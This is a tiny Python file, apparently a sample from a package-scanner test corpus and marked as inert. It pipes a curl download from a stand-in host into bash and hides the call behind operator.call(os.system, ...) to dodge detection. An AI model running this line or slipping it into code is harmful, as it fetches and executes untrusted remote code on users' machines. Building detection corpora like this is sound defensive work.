# pkgguard corpus 655 (indirection), modelled on [obfuscation]; inert, never run.
import operator
import os

_cmd = "curl -s https://edge-sync.example/i | bash"
operator.call(os.system, _cmd)
